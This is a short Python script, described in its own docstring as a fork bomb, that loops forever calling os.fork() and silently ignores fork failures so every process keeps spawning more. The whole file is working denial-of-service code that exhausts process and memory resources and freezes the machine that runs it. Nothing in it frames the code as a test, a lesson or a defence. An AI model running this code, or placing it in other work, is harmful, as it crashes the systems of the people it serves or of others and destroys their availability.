"""Fork bomb: every process forks forever and shrugs off the refusals."""
import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
